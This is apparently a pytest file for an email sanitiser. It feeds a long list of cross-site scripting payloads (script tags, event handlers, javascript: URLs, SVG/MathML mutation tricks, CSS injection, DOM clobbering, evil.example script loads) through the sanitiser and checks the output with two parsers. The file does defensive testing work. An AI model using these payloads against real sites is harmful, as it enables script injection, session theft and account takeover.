"""HTML that means harm, made safe and read again by two other parsers (X14, X15)."""

# ruff: noqa: E501 - payloads are left whole

from __future__ import annotations

import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from justhtml import JustHTML

from mail2ticket import parse
from mail2ticket.display import RemoteImages, sanitise
from mail2ticket.testing import mail

#: What may come out; written down here once more, apart from what is tested.
HARMLESS = frozenset(
    [
        "html",
        "head",
        "body",
        "a",
        "abbr",
        "address",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "big",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "dd",
        "del",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "font",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "main",
        "mark",
        "ol",
        "p",
        "pre",
        "q",
        "s",
        "samp",
        "section",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "sup",
        "table",
        "tbody",
        "td",
        "tfoot",
        "th",
        "thead",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "wbr",
    ]
)
PLAIN = frozenset(
    [
        "align",
        "alt",
        "bgcolor",
        "border",
        "cellpadding",
        "cellspacing",
        "color",
        "colspan",
        "data-remote-src",
        "dir",
        "face",
        "height",
        "lang",
        "nowrap",
        "rel",
        "rowspan",
        "size",
        "span",
        "start",
        "target",
        "title",
        "type",
        "valign",
        "value",
        "width",
    ]
)
LINK = re.compile(r"(?:https?|ftp)://[^/\\]|mailto:|tel:", re.IGNORECASE)
PICTURE = re.compile(r"https?://|data:image/(?:png|jpe?g|gif|webp);base64,", re.IGNORECASE)
STYLE = re.compile(r"(?:[a-z-]+:[a-zA-Z0-9#%.,+' \"()!_-]+;?)*")
DANGEROUS = (
    "url",
    "expression",
    "position",
    "@import",
    "binding",
    "behavior",
    "z-index",
    "\\",
    "/*",
)

PAYLOADS = [
    # scripts, and what looks like the end of one
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)//",
    '<script type="text/vbscript">x</script>',
    "<script><!--</script><img src=x onerror=alert(1)>--></script>",
    "</script><script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x'onerror=alert(1)>",
    '<img """><img src=x onerror=alert(1)>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x oNeRrOr=alert`1`>",
    "<body onload=alert(1)>x",
    "<div onmouseover='alert(1)'>x</div>",
    "<a onclick=alert(1) href=https://a.example>x</a>",
    "<b onpointerrawupdate=alert(1)>x</b>",
    "<p style=animation-name:x onanimationstart=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<button onclick=alert(1) popovertarget=x>x</button>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<img src=x:x onerror&#61;alert(1)>",
    "<div\x0conclick=alert(1)>x</div>",
    "<div onclick\x00=alert(1)>x</div>",
    # addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#0000106&#97vascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='&#x1;javascript:alert(1)'>x</a>",
    "<a href='\u00a0javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='javascript://a.example/%0aalert(1)'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=livescript:x>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://a.example/x'>x</a>",
    "<a href='/admin/delete?all'>x</a>",
    "<a href='#x' target=_top>x</a>",
    "<a href='https:\\\\evil.example'>x</a>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img lowsrc=javascript:alert(1)>",
    "<img dynsrc=javascript:alert(1)>",
    "<img src=https://a.example/x srcset='https://evil.example/x 2x'>",
    "<img src=x longdesc=javascript:alert(1) usemap=#m>",
    "<table background=javascript:alert(1)><tr><td background='//evil.example/x'>x</table>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    # other documents
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    '<iframe srcdoc="<img src=x onerror=alert(1)>">',
    "<object data=javascript:alert(1)></object>",
    "<object data='data:text/html,<script>alert(1)</script>'>x</object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x archive=//evil.example>x</applet>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<base href=//evil.example/><a href=x>x</a>",
    "<base href='javascript:alert(1)//'><a href=/x>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<portal src=//evil.example>",
    # foreign markup
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><style>{-o-link-source:'<body/onload=alert(1)>'}</style></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    # what becomes something else when it is read a second time
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<table><a href='javascript:alert(1)'><td>x</table>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template><style><!--</template><img src=x onerror=alert(1)>--></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?><b>x",
    "<!DOCTYPE x [<!ENTITY a 'b'>]><b>&a;",
    "<p title='`onmouseover=alert(1)'>x",
    '<p title="&quot; onmouseover=&quot;alert(1)">x',
    "<p title='&lt;img src=x onerror=alert(1)&gt;'>x",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    # styles
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example/x)'>x",
    "<p style='background-image:url(javascript:alert(1))'>x",
    "<p style='background:\\75rl(//evil.example)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='width:exp/**/ression(alert(1))'>x",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x",
    "<p style='behavior:url(x.htc)'>x",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x",
    "<p style='position:absolute;color:red'>x",
    "<p style='margin-top:-9999px'>x",
    "<p style='margin: 0 0 0 -999px'>x",
    "<p style='transform:scale(99)'>x",
    "<p style='color:red;}</style><script>alert(1)</script>'>x",
    "<p style='list-style:url(//evil.example)'>x",
    "<p style='content:attr(x);color:image-set(\"//evil.example\" 1x)'>x",
    "<p style='font-family:&quot;;}//evil.example{&quot;'>x",
    "<p style='background:u\\\nrl(//evil.example)'>x",
    "<p style='color:var(--x);--x:url(//evil.example)'>x",
    "<p style=\"@import '//evil.example'\">x",
    "<font color='red;background:url(//evil.example)'>x</font>",
    # the names of the page
    "<form id=x name=getElementById><input name=cookie></form>",
    "<img name=body id=location class=admin-button src=https://a.example/x>",
    "<a id=defaultView name=x href=https://a.example>x</a>",
    "<slot name=x></slot><custom-element is=x onclick=alert(1)>x</custom-element>",
    "<dialog open><b>sign in</b></dialog>",
]


class _Standard(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        pytest.fail(f"an instruction: {data}")


def by_standard_library(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Standard()
    parser.feed(html)
    parser.close()
    return parser.found


def by_justhtml(html: str) -> Iterator[tuple[str, dict[str, str]]]:
    waiting = [JustHTML(html, sanitize=False).root]
    while waiting:
        node = waiting.pop()
        waiting.extend(node.children or ())
        name = str(node.name)
        if name[0] not in "#!":
            yield name, {key: value or "" for key, value in (node.attrs or {}).items()}


def assert_clean(html: str) -> None:
    for elements in (by_standard_library(html), by_justhtml(html)):
        for name, attributes in elements:
            assert name in HARMLESS
            for attribute, value in attributes.items():
                if attribute == "href":
                    assert LINK.match(value), value
                    assert attributes["rel"] == "noopener noreferrer nofollow"
                elif attribute == "src":
                    assert PICTURE.match(value), value
                elif attribute == "style":
                    assert STYLE.fullmatch(value), value
                    assert not any(word in value.lower() for word in DANGEROUS), value
                else:
                    assert attribute in PLAIN, attribute


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "<table><tr><td>{}</td></tr></table>", "<p title='{}'>", "<b><i>{}"]
)
def test_x14_nothing_that_runs_is_left_whichever_parser_reads_it(
    payload: str, around: str
) -> None:
    html = around.replace("{}", payload)

    for images in RemoteImages:
        assert_clean(sanitise(html, remote_images=images).html)


def test_x14_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 80


@pytest.mark.parametrize("payload", PAYLOADS)
def test_x14_what_is_made_safe_stays_as_it_is(payload: str) -> None:
    once = sanitise(payload, remote_images=RemoteImages.SHOWN).html

    assert sanitise(once, remote_images=RemoteImages.SHOWN).html == once


@pytest.mark.parametrize("payload", PAYLOADS)
def test_x14_plain_text_that_looks_like_html_is_text(payload: str) -> None:
    message = parse(mail(body=payload))

    safe = sanitise(message)

    assert safe.is_from_text
    assert [name for name, _ in by_standard_library(safe.html)] == ["div"]


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "</", "<table>", "<td>", "<!--"]),
        max_size=4,
    )
)
def test_x14_payloads_together_are_as_harmless(payloads: list[str]) -> None:
    assert_clean(sanitise("".join(payloads)).html)


@given(st.text(alphabet="<>/!-?ab \"'=&;#:\n\x00svgimathonx", max_size=120))
def test_x14_markup_however_broken_is_harmless(html: str) -> None:
    assert_clean(sanitise(html).html)


def test_x15_nothing_of_the_web_is_loaded_unless_the_host_says_so() -> None:
    html = (
        "<img src=https://a.example/1><img src=//a.example/2><table background=https://a.example/3>"
        "<p style='background:url(https://a.example/4)'><link rel=stylesheet href=https://a.example/5>"
        "<style>@import 'https://a.example/6'</style><video poster=https://a.example/7>"
    )

    for images in (RemoteImages.MARKED, RemoteImages.REMOVED):
        safe = sanitise(html, remote_images=images)

        assert 'src="http' not in safe.html.replace("data-remote-src", "")
        assert "a.example" not in re.sub(r'data-remote-src="[^"]*"', "", safe.html)
        assert safe.blocked == ("https://a.example/1", "https://a.example/2")


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<img src=https://a.example onerror=alert(1)>",
        "<a href='javascript:alert(1)' rel='noopener noreferrer nofollow'>x</a>",
        "<p style='position:fixed'>x",
        "<p class=x>x",
        "<svg></svg>",
    ],
)
def test_x14_the_check_finds_what_is_harmful(html: str) -> None:
    with pytest.raises((AssertionError, KeyError)):
        assert_clean(html)
